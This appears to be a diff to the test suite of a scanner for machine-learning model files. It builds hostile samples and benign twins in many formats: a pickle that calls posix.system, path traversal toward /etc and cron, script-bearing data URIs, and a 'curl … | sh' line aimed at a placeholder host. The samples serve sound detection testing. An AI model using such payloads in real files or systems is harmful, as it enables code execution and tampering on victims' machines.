@@ -6,8 +6,9 @@ import io
 import json
 import lzma
 import pickle
+import struct
 import zlib
-from base64 import a85encode, b64encode
+from base64 import a85encode, b32encode, b64encode, b85decode, b85encode
 from collections.abc import Callable
 
 import pyarrow
@@ -15,13 +16,14 @@ import pyarrow.parquet
 import pytest
 
 from budmodel_scanner.content import MemoryContent, Place
+from budmodel_scanner.formats.checksums import masked_crc32c
 from budmodel_scanner.formats.payloads import begins_as
 from budmodel_scanner.router import examine_file
 from budmodel_scanner.verdict import Verdict, verdict_of
 
 HOSTILE = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R."
 FLAGGED = {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
-ENCODINGS: list[Callable[[bytes], bytes]] = [b64encode, lambda data: data.hex().encode()]
+ENCODINGS: list[Callable[[bytes], bytes]] = [b64encode, lambda data: data.hex().encode(), b32encode, b85encode, a85encode]
 COMPRESSIONS: list[Callable[[bytes], bytes]] = [zlib.compress, gzip.compress, lzma.compress, bz2.compress]
 
 
@@ -130,3 +132,92 @@ def test_a_table_of_pickles_beside_one_of_code(value: bytes | str, is_flagged: b
     written = io.BytesIO()
     pyarrow.parquet.write_table(pyarrow.table({"content": [value, value]}), written)
     assert (said(written.getvalue(), "a.parquet") in FLAGGED) is is_flagged
+
+
+PLAIN = pickle.dumps([1, 2])
+LINES = b"cposix\nsystem\n(S'echo'\ntR."
+PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(60)
+# As the library writes a text of varying length, of which the stars are to be replaced.
+TEXTS_OF_HDF5 = zlib.decompress(
+    b85decode(
+        b"c-rgqaB<`1lHy|K;9!7(|4?vV5W+WriXS=u)X3k%C5VZkf=LKjAq;RaF)%VPu<<YeDaMM;F!MYZs0K2B%G7|J0JMNngn@yH5eT4i"
+        b"Fq&C}fl(4DDga~)z{NQjSb?r%X5s+4oSAVyRIvce;0+8z4lGmMvcUpKpJzn)-`&~YhY`tRurRTJ(pqE!n4K&58Aib<7zLwX6pVsV"
+        b"FbYP&C>RB!U=)mkQ82&&06IrBcK"
+    )
+)
+
+
+def varying(text: bytes) -> bytes:
+    return TEXTS_OF_HDF5.replace(b"*" * len(HOSTILE.hex()), text.ljust(len(HOSTILE.hex())))
+
+
+def message(number: int, payload: bytes) -> bytes:
+    return bytes([number << 3 | 2, len(payload)]) + payload
+
+
+def record(value: bytes) -> bytes:
+    feature = message(1, b"image") + message(2, message(1, message(1, value)))
+    example = message(1, message(1, feature))
+    length = struct.pack("<Q", len(example))
+    return b"".join(part + struct.pack("<I", masked_crc32c(part)) for part in (length, example))
+
+
+def chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def picture(profile: bytes) -> bytes:
+    size = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+    packed = chunk(b"iCCP", b"x\0\0" + zlib.compress(profile))
+    return b"\x89PNG\r\n\x1a\n" + size + packed + chunk(b"IDAT", zlib.compress(bytes(4))) + chunk(b"IEND", b"")
+
+
+def sound(samples: bytes) -> bytes:
+    samples += bytes(len(samples) % 2)
+    return b"RIFF" + struct.pack("<I", 12 + len(samples)) + b"WAVEdata" + struct.pack("<I", len(samples)) + samples
+
+
+def stream(body: bytes) -> bytes:
+    return document(b">>endobj\n2 0 obj<<>>stream\n" + body + b"\nendstream")
+
+
+def noted(value: str) -> bytes:
+    header = json.dumps({"__metadata__": {"picture": value}}).encode()
+    return struct.pack("<Q", len(header)) + header
+
+
+def keyed(key: str, value: str) -> bytes:
+    texts = (struct.pack("<Q", len(text)) + text.encode() for text in (key, value))
+    header = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<I", 8).join(texts)
+    return header + bytes(-len(header) % 32)
+
+
+def trees(parameter: str) -> str:
+    return f"tree\nversion=v4\nfeature_names=a b\n\nparameters:\n[{parameter}]\nend of parameters\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "hostile", "benign"),
+    [
+        ("a.pkl", pickle.dumps(b"a header" + bytes(9) + HOSTILE), pickle.dumps(b"a header" + bytes(9) + PLAIN)),
+        ("a.pkl", pickle.dumps(b"a header" + bytes(9) + LINES), pickle.dumps(b"cats\nsystem\n(words)")),
+        ("a.h5", varying(HOSTILE.hex().encode()), varying(b"a text")),
+        ("a.tfrecord", record(HOSTILE), record(PLAIN)),
+        ("b.tfrecord", record(PROGRAM), record(b"a text of some words")),
+        ("a.png", picture(HOSTILE), picture(b"lcms and nothing that runs")),
+        ("a.wav", sound(PROGRAM), sound(bytes(range(128)))),
+        ("b.wav", sound(HOSTILE), sound(PLAIN)),
+        ("a.pdf", stream(LINES), stream(b"BT (words) Tj ET")),
+        ("a.safetensors", noted("data:text/html,%3Cscript%3Ex()%3C/script%3E"), noted("data:text/plain,%3Ca%3E")),
+        ("b.safetensors", noted('data:image/svg+xml,<svg onload="x()"/>'), noted("data:image/svg+xml,<svg/>")),
+        ("a.gguf", keyed("split.path", "../../etc/x"), keyed("split.path", "a-00002-of-00003.gguf")),
+        ("b.gguf", keyed("my.file", "/etc/cron.d/x"), keyed("quantize.imatrix.file", "/models/imatrix.dat")),
+        ("c.txt", trees("machines: `curl -s http://x.invalid/a | sh`"), trees("machines: ")),
+        ("d.txt", trees("output_model: ../../../etc/x"), trees("output_model: LightGBM_model.txt")),
+        ("a.img", bytes(0x8000) + b"\x01CD001\x01" + bytes(4000), bytes(0x8000) + b"\x01CDAB" + bytes(4000)),
+        ("weights.img", bytes(999) + b"koly\0\0\0\4" + bytes(504), bytes(999) + b"kola\0\0\0\4" + bytes(504)),
+    ],
+)
+def test_a_carrier_of_bytes_and_its_benign_twin(name: str, hostile: bytes | str, benign: bytes | str) -> None:
+    assert said(hostile, name) in FLAGGED
+    assert said(benign, name) not in FLAGGED
